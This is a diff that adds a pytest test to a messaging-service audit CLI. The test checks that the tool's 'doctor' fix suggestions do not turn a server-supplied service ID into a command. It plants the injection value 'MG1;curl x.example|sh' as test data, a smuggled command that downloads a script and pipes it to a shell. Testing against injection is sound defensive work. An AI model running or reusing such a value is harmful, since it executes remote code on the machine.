@@ -151,3 +151,25 @@ def test_the_reads_are_one_listing_per_resource_and_nothing_is_written(httpserve
     assert_request(requests[0], "GET", "/v1/Services", query="PageSize=1000")
     assert requests[2].args["StartDate"].endswith("Z") and requests[2].args["PageSize"] == "1000"
     assert_request(requests[7], "GET", f"/v1/Services/{SERVICE_SID}/Compliance/Usa2p", query="PageSize=1")
+
+
+def test_a_fix_names_no_command_made_of_what_the_server_calls_its_sid(httpserver, profile, msgsvc):
+    import re
+
+    from werkzeug import Response
+
+    hostile = "MG1;curl x.example|sh"
+    good = {"status_callback": "https://hooks.example.com/status", "fallback_to_long_code": False,
+            "synchronous_validation": False, "area_code_geomatch": False}
+    httpserver.expect_request("/v1/Services").respond_with_json(page("services", [service(hostile, **good)]))
+    httpserver.expect_request("/v1/a2p/BrandRegistrations").respond_with_json(page("data", []))
+    keys = {"PhoneNumbers": "phone_numbers", "ShortCodes": "short_codes", "AlphaSenders": "alpha_senders",
+            "ChannelSenders": "senders"}
+    httpserver.expect_request(re.compile(r"/v1/Services/.+/\w+")).respond_with_handler(
+        lambda request: Response(json.dumps(page(keys[request.path.rsplit("/", 1)[1]], [])), content_type="application/json"))
+    result = msgsvc("doctor")
+    assert result.code == 9
+    assert result.out == (f"error\t{hostile}\tno-senders\tphone_numbers=0 short_codes=0 alpha_senders=0 channel_senders=0\t"
+                          "msgsvc numbers attach SERVICE NUMBER\thttps://www.twilio.com/docs/messaging/services\n")
+    assert result.err == "1 error in 1 service.\n"
+    assert msgsvc("doctor", "--json").out.count('"fix":"msgsvc numbers attach SERVICE NUMBER"') == 1
